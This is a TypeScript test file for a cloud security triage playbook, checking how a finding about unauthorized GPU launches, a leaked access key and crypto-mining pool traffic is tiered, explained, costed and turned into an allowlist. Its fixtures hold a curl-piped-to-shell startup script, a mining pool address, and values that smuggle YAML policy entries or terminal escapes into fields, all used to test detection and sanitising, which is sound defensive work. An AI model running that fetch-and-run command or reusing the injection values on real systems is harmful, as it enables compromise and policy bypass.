import assert from 'node:assert/strict';
import { test } from 'node:test';
import { an0744Finding, cloudEvidence, KEY, PRINCIPAL } from '../../test/support/an0744-finding.js';
import { cloudApprovalOf } from '../model/cloud-policy.js';
import type { Finding } from '../model/finding.js';
import { defaultPolicy } from '../model/policy.js';
import { parsePolicy } from '../run/policy.js';
import { triageFinding } from './playbook.js';

test('AN0744: an unauthorized launch is Tier 2 citing who, which key, from where, what and the authorization fact', () => {
  const t = triageFinding(an0744Finding(), defaultPolicy());
  assert.equal(t.escalation.tier, 'Tier 2');
  const [deployment, cpu, pools, ...rest] = t.escalation.reasons;
  assert.deepEqual(rest, []);
  assert.match(deployment, /^unauthorized VM deployment: 20 × g4dn\.xlarge in aws account 123456789012 us-east-1 /);
  for (const part of [
    `by ${PRINCIPAL}`,
    `with key ${KEY}`,
    'from 203.0.113.77',
    '(Boto3/1.34.0',
    'via RunInstances at 2026-12-01T02:13:05.000Z',
    '; first launch by arn:aws:iam::123456789012:user/ci-deploy; GPU or very large instances (g4dn.xlarge) (baseline: 14 days of audit history)',
  ])
    assert.ok(deployment.includes(part), part);
  assert.match(
    cpu,
    /^unexplained high CPU: i-0a1b2c3d4e5f60718 CPU pinned at 99% from launch for 3h; the launch itself was not authorized$/,
  );
  assert.equal(pools, 'connections to known mining addresses: pool.supportxmr.com:443 (198.51.100.23)');
  const steps = t.escalation.next_steps.join('\n');
  assert.match(steps, /every launch by key AKIAIOSFODNN7EXAMPLE .* in every region of aws 123456789012/);
  assert.match(
    steps,
    /CloudTrail of key AKIAIOSFODNN7EXAMPLE .* for the 30 days before 2026-12-01T02:13:05\.000Z: IAM changes/,
  );
  assert.match(steps, /Find where key AKIAIOSFODNN7EXAMPLE leaked .* it was used from 203\.0\.113\.77/);
});

test('AN0744: pool traffic and CPU on an approved launch escalate without calling the launch unauthorized; a denied call is an attempt', () => {
  const approved = triageFinding(
    an0744Finding(
      { legs: ['resource', 'reach'] },
      { authorization: 'approved by cloud.principals "arn:aws:iam::*:role/terraform-*" (coalmine.yaml:3)' },
    ),
    defaultPolicy(),
  );
  assert.equal(approved.escalation.tier, 'Tier 2');
  assert.ok(!approved.escalation.reasons.some((r) => /VM deployment/.test(r)));
  assert.ok(
    approved.escalation.reasons.some((r) => /unexplained high CPU: .*; the instances reached mining pools$/.test(r)),
  );

  const attempt = triageFinding(
    an0744Finding(
      {
        entity: 'instance:aws:123456789012:attempt:ev-1',
        legs: ['authorization'],
        severity: 'low',
        evidence: [cloudEvidence('unauthorized-launch', 'authorization', { strength: 'medium' })],
      },
      { instances: [], denied_requests: 3, instance_hours: 0, cpu_pct_peak: 0, destinations: [] },
    ),
    defaultPolicy(),
  );
  assert.equal(attempt.escalation.tier, 'Tier 2');
  assert.match(attempt.escalation.reasons[0], /^attempted unauthorized VM deployment: 20 × g4dn\.xlarge/);
  assert.equal(attempt.cost, null);
  assert.equal(attempt.cost_note, 'no cost: the launch was denied, nothing ran');
  assert.match(attempt.questions[2].answer, /3 of its requests were denied/);
});

test('AN0744: the four questions are answered from what the control-plane log says', () => {
  const q = triageFinding(an0744Finding(), defaultPolicy()).questions;
  assert.deepEqual(
    q.map((x) => [x.id, x.status]),
    [
      ['legitimate-process', 'answered'],
      ['destination-reputation', 'answered'],
      ['recent-changes', 'answered'],
      ['vulnerable-exposure', 'answered'],
    ],
  );
  assert.match(q[0].answer, /launched by arn:aws:iam::123456789012:user\/ci-deploy with key AKIAIOSFODNN7EXAMPLE/);
  assert.match(q[0].answer, /Authorization: first launch by/);
  assert.deepEqual(q[0].evidence, ['cloudtrail/123456789012_CloudTrail_us-east-1.json:3']);
  assert.match(q[1].answer, /^Known bad: .*intel pool-domains falco@18aa700\. The call came from 203\.0\.113\.77/);
  assert.match(q[2].answer, /just before the launch: EnableRegion ap-southeast-3/);
  assert.match(q[2].answer, /a startup script: "#!\/bin\/sh\\ncurl -s http:\/\/203\.0\.113\.9\/x\.sh \| sh"/);
  assert.match(
    q[3].answer,
    /^A long-term access key, AKIAIOSFODNN7EXAMPLE of arn:aws:iam::123456789012:user\/ci-deploy/,
  );

  const role = triageFinding(
    an0744Finding(
      {},
      {
        principal: 'arn:aws:sts::123456789012:assumed-role/ml-batch/i-0abc',
        access_key_id: 'ASIAY34FZKBOKMUTVV7A',
      },
    ),
    defaultPolicy(),
  ).questions[3];
  assert.match(role.answer, /^Temporary credentials \(ASIAY34FZKBOKMUTVV7A\) of the role ml-batch .* metadata service/);

  // no audit log read: nobody is named, each question says what to look at in which log
  const blind = an0744Finding(
    {
      legs: ['resource', 'reach'],
      evidence: an0744Finding().evidence.filter((e) => e.class !== 'authorization'),
      gaps: [
        'partial: no control-plane audit log for gcp account p us-central1 (CloudTrail, Cloud Audit Logs, Activity Log): who created the instance(s) and whether that was approved is unknown',
      ],
    },
    { provider: 'gcp', authorization: 'not judged: the launch was not in the audit log read', destinations: [] },
  );
  for (const key of [
    'principal',
    'access_key_id',
    'source_ip',
    'user_agent',
    'launched',
    'user_data',
    'launch_operation',
  ])
    delete blind.facts[key];
  blind.evidence = blind.evidence.filter((e) => e.kind !== 'pool-contact');
  const bq = triageFinding(blind, defaultPolicy()).questions;
  assert.deepEqual(
    bq.map((x) => x.status),
    ['needs-analyst', 'needs-analyst', 'needs-analyst', 'needs-analyst'],
  );
  assert.match(bq[0].answer, /no record of the launch was read \(no Cloud Audit Logs: see gaps\)/);
  assert.match(bq[3].answer, /find it in the Cloud Audit Logs/);
});

test('AN0744 cost: instance-hours × the bundled on-demand price of the type in its region, with its basis', () => {
  const cost = (facts: Finding['facts'], policy = defaultPolicy()) => {
    const t = triageFinding(an0744Finding({}, facts), policy);
    return { cost: t.cost, note: t.cost_note };
  };
  assert.deepEqual(cost({}), {
    cost: {
      core_hours: 0,
      price_per_core_hour: 0,
      instance_hours: 64,
      instance_type: 'g4dn.xlarge',
      price_per_instance_hour: 0.526,
      currency: 'USD',
      amount: 33.66,
      basis: '20 × g4dn.xlarge, 64 instance-hours × 0.526 USD (cloud-prices 2026-12-05, us-east-1)',
    },
    note: undefined,
  });
  assert.equal(
    cost({ region: 'ap-southeast-3', instance_hours: 3.2 }).cost?.basis,
    '20 × g4dn.xlarge, 3.2 instance-hours × 0.526 USD (cloud-prices 2026-12-05, us-east-1 price, no row for ap-southeast-3)',
  );
  assert.equal(cost({ region: 'eu-west-1' }).cost?.amount, 37.57);
  const azure = cost({ provider: 'azure', region: 'eastus', instance_types: ['Standard_NC6s_v3'], instance_hours: 2 });
  assert.equal(azure.cost?.instance_type, 'Standard_NC6s_v3');
  assert.equal(azure.cost?.amount, 6.12);

  // the policy's override, in its currency, wins over the table in any region
  const policy = defaultPolicy();
  policy.prices = { currency: 'EUR', coreHour: 0.05, gpuHour: 0.5, instanceHour: { 'g4dn.xlarge': 0.5 } };
  assert.deepEqual(cost({}, policy).cost, {
    core_hours: 0,
    price_per_core_hour: 0,
    instance_hours: 64,
    instance_type: 'g4dn.xlarge',
    price_per_instance_hour: 0.5,
    currency: 'EUR',
    amount: 32,
    basis: '20 × g4dn.xlarge, 64 instance-hours × 0.5 EUR (prices.instance_hour in the policy)',
  });

  // no cost, and why
  assert.match(
    cost({ instance_types: ['x9.mega'] }).note ?? '',
    /^no cost: aws x9\.mega is not in the price table \(cloud-prices 2026-12-05\); set prices\.instance_hour for it/,
  );
  assert.match(
    cost({}, { ...defaultPolicy(), prices: { currency: 'EUR', coreHour: 0.05, gpuHour: 0.5 } }).note ?? '',
    /the bundled price table is in USD and prices\.currency is EUR/,
  );
  assert.match(
    cost({ instance_types: ['g4dn.xlarge', 'p3.2xlarge'] }).note ?? '',
    /several instance types \(g4dn\.xlarge, p3\.2xlarge\)/,
  );
  assert.match(cost({ instance_types: [] }).note ?? '', /the instance type is not known/);
  assert.match(cost({ instance_hours: 0 }).note ?? '', /no instance-hours/);
  for (const c of [cost({ instance_types: ['x9.mega'] }), cost({ instance_hours: 0 })]) assert.equal(c.cost, null);
  // a hostile type is shown inert, and prices nothing
  const hostile = cost({ instance_types: ['g4dn.xlarge\u001b[31m\n'] });
  assert.equal(hostile.cost, null);
  assert.ok(!/[\u0000-\u001f]/.test(hostile.note ?? ''), hostile.note);
});

test('AN0744 allowlist suggestion is a cloud: section coalmine.yaml accepts, and it approves that launch once tagged', () => {
  const load = (f: Finding) => {
    const text = triageFinding(f, defaultPolicy()).allowlist_suggestion;
    const { policy, errors } = parsePolicy('coalmine.yaml', text);
    assert.deepEqual(errors, [], text);
    assert.ok(policy.cloud, text);
    return { text, cloud: policy.cloud };
  };
  const launch = (f: Finding, tags: Record<string, string> = { 'change-ticket': 'CHG-1' }) => ({
    principal: f.facts.principal as string | undefined,
    invokedBy: f.facts.invoked_by as string | undefined,
    region: f.facts.region as string,
    instanceTypes: f.facts.instance_types as string[],
    tags,
    at: Date.parse(f.last_seen),
  });

  const user = load(an0744Finding());
  assert.deepEqual(user.cloud.principals, [PRINCIPAL]);
  assert.deepEqual(user.cloud.regions, ['us-east-1']);
  assert.deepEqual(user.cloud.instanceFamilies, ['g4dn.*']);
  // the identity entry carries owner and reason placeholders and an expiry, which the policy reads as its terms
  assert.match(
    user.text,
    /\n {4}- principal: "arn:aws:iam::123456789012:user\/ci-deploy"\n {6}owner: "<team or person accountable>"\n {6}reason: "<why it is approved, with a ticket>"\n {6}expires: 2027-03-01\n/,
  );
  assert.deepEqual(user.cloud.terms?.principals?.[0], {
    owner: '<team or person accountable>',
    reason: '<why it is approved, with a ticket>',
    expires: '2027-03-01',
    ref: 'coalmine.yaml:4',
  });
  assert.equal(cloudApprovalOf(user.cloud, launch(an0744Finding()))?.approved, true);
  const late = { ...launch(an0744Finding()), at: Date.parse('2027-03-02T00:00:00Z') };
  assert.match(
    cloudApprovalOf(user.cloud, late)?.reason ?? '',
    /^cloud\.principals ".*" \(coalmine\.yaml:4; .*\) expired 2027-03-01, before this launch at 2027-03-02T00:00:00\.000Z$/,
  );
  assert.equal(cloudApprovalOf(user.cloud, launch(an0744Finding(), {}))?.approved, false, 'the ticket tag is required');

  // an assumed-role session is approved by its role; GCP and Azure families by their own spelling
  const sessionFacts = { principal: 'arn:aws:sts::123456789012:assumed-role/ml-batch/i-0abc' };
  const session = load(an0744Finding({}, sessionFacts));
  assert.deepEqual(session.cloud.principals, ['arn:aws:iam::123456789012:role/ml-batch']);
  assert.equal(cloudApprovalOf(session.cloud, launch(an0744Finding({}, sessionFacts)))?.approved, true);
  const gcp = load(an0744Finding({}, { provider: 'gcp', region: 'us-central1', instance_types: ['n1-standard-8'] }));
  assert.deepEqual(gcp.cloud.instanceFamilies, ['n1-standard-*']);
  const azure = load(an0744Finding({}, { provider: 'azure', region: 'eastus', instance_types: ['Standard_NC6s_v3'] }));
  assert.equal(
    cloudApprovalOf(azure.cloud, launch(an0744Finding({}, { region: 'eastus', instance_types: ['Standard_NC6s_v3'] })))
      ?.approved,
    true,
  );
  // a service launching for a group, or nobody named: still a section the policy accepts
  const service = an0744Finding({}, { invoked_by: 'autoscaling.amazonaws.com' });
  delete service.facts.principal;
  assert.deepEqual(load(service).cloud.services, ['autoscaling.amazonaws.com']);
  const nobody = an0744Finding();
  delete nobody.facts.principal;
  assert.equal(load(nobody).cloud.principals.length, 1);

  // hostile facts never become entries: a value the policy would refuse is left out and named
  const hostile = load(
    an0744Finding(
      {},
      {
        principal: 'eve"\nprincipals: ["*"]\n#',
        region: 'us-east-1\nregions: [eu-west-1]',
        instance_types: ['g4dn.xlarge\ninstance_families: ["*"]'],
      },
    ),
  );
  assert.deepEqual(hostile.cloud.principals, ['<the identity that launches these>']);
  assert.match(hostile.text, /the principal read cannot be an entry/);
  assert.deepEqual(hostile.cloud.regions, []);
  assert.deepEqual(hostile.cloud.instanceFamilies, []);
  const quoted = load(an0744Finding({}, { principal: 'arn:aws:iam::1:user/a"b]c' }));
  assert.deepEqual(quoted.cloud.principals, ['arn:aws:iam::1:user/a"b]c']);
});
